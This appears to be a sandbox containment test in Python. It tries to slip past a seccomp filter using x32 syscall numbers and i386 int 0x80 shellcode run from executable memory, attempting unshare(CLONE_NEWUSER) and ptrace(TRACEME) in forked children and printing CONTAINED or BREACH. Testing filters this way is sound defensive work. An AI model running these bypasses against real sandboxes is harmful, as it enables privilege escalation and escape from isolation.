"""Attacks: seccomp bypass through other syscall ABIs: x32 numbers (nr | 0x40000000) and the
i386 ABI (int 0x80 from executable memory), which use other syscall numbers than the filter's
x86_64 table (e.g. unshare is 310 on i386).

Expected containment: the filter checks the architecture: the calls are refused or the
offending process is killed (SIGSYS); unshare never succeeds. Each attempt runs in a child;
the program continues.
"""
import ctypes
import errno
import mmap
import os
import platform
import signal

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def in_child(what, fn):
    pid = os.fork()
    if pid == 0:
        try:
            r = fn()
        except BaseException:
            os._exit(99)
        os._exit(0 if r < 0 or r > 255 else 100 + min(r, 1))
    _, st = os.waitpid(pid, 0)
    if os.WIFSIGNALED(st):
        print("CONTAINED: %s: killed by %s" % (what, signal.Signals(os.WTERMSIG(st)).name))
    elif os.WEXITSTATUS(st) in (0, 99):
        print("CONTAINED: %s: refused" % what)
    else:
        print("BREACH: %s returned success" % what)


def x32(nr, arg):
    return libc.syscall(ctypes.c_long(0x40000000 | nr), ctypes.c_long(arg))


def i386(nr, arg):
    code = (b"\x53\xb8" + nr.to_bytes(4, "little") + b"\xbb" + arg.to_bytes(4, "little")
            + b"\xcd\x80\x5b\xc3")  # push rbx; mov eax,nr; mov ebx,arg; int 0x80; pop rbx; ret
    m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    m.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()


if platform.machine() == "x86_64":
    in_child("x32 unshare(CLONE_NEWUSER)", lambda: x32(272, 0x10000000))
    in_child("i386 unshare(CLONE_NEWUSER)", lambda: i386(310, 0x10000000))
    in_child("i386 ptrace(TRACEME)", lambda: i386(26, 0))
else:
    print("CONTAINED: not x86_64, nothing to try")
print("continued", flush=True)
